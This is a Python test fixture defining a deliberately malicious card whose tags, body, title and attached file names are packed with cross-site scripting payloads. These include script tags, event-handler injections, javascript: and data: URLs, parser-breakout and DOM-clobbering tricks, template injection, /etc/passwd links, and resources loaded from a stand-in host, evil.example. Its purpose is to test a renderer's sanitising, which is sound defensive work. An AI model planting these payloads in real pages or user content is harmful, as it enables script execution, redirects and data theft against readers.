"""A card that tries everything a card must not be able to do to those who read it."""
# ruff: noqa: E501

HEAD = """\
tags: ["</script><script>hacked=1</script>", "<img src=x onerror=hacked=2>"]
contact: '"><img src=x onerror=hacked=3>'
citation: "javascript:hacked=4"
"""

BODY = """\
## What it is <img src=x onerror="hacked=5">

<script>window.hacked = 6</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="window.hacked = 7"><img src="https://evil.example/pixel.png">
<svg onload="window.hacked = 8"><script>window.hacked = 9</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=10"></style></table></math>
<iframe src="javascript:parent.hacked=11"></iframe><object data="javascript:hacked=12"></object>
<embed src="data:text/html,<script>parent.hacked=13</script>">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; body{display:none}</style>
<form action="https://evil.example"><input name="theme" id="theme" autofocus onfocus="hacked=14"><button>Send</button></form>
<a href="javascript:window.hacked=15" id="evil1">one</a>
<a href="JaVaScRiPt&#58;window.hacked=16" id="evil2">two</a>
<a href="data:text/html,<script>hacked=17</script>" id="evil3">three</a>
<a href="vbscript:hacked" id="evil4">four</a> <a href="//evil.example/" id="evil5">five</a>
<a href="\\\\evil.example\\x" id="evil6">six</a> <a href="java\tscript:hacked=18" id="evil7">seven</a>
<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)" onclick="hacked=19" class="bar">styled</p>
<div id="main">a second main</div><a name="theme" id="graph">clobber</a><img name="body" src="x">
<div title="<table><img src=x onerror=hacked=20>">title</div><a title="<img onmouseover=hacked=21>" href="#x">hover</a>
<details open ontoggle="hacked=22"><summary>more</summary>text</details>
<video src="https://evil.example/v.mp4" onerror="hacked=23" autoplay></video><audio src=x onerror=hacked=24>
<noscript><p title="</noscript><img src=x onerror=hacked=25>"></noscript>
<textarea><img title="</textarea><img src=x onerror=hacked=26>">
</textarea><!--><img src=x onerror=hacked=27>-->

[md](javascript:window.hacked=28) [data](data:text/html;base64,PHNjcmlwdD4=) ![x](javascript:hacked=29)
![pixel](https://evil.example/pixel2.png "<img src=x onerror=hacked=30>") <https://good.example/>
[ref]: javascript:hacked=31 [ref] [file](file:///etc/passwd) ![up](../../../../../etc/passwd)

## `</script><script>hacked=32</script>`

```html" onload="hacked=33
<script>window.hacked = 34</script>
```

```python
"</code></pre><script>hacked=35</script>"
```

| <img src=x onerror=hacked=36> | b |
|:---:|--:|
| <b onclick="hacked=37">x</b> | </table><script>hacked=38</script> |

</article></main></body><h1>out</h1>
"""

TITLE = "</title><script>hacked=40</script><img src=x onerror=hacked=41>{{ 7 * 7 }}${hacked=42}"
SUBJECT = "<script>hacked=43</script> ]]></title>&"

# Files whose names and contents would be markup, if a page took them for it.
FILES = {
    "<img src=x onerror=alert(1)>.csv": b"<b onclick=alert(2)>a</b>,b\n<script>alert(3)</script>,1\n",
    "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4)'><script>alert(5)</script></svg>",
    "b.json": b'[{"</script><script>alert(6)</script>": "<iframe src=javascript:alert(7)>"}]',
    "c.ipynb": b'{"cells": [{"cell_type": "<u>", "source": "<script>alert(8)</script>"}]}',
}
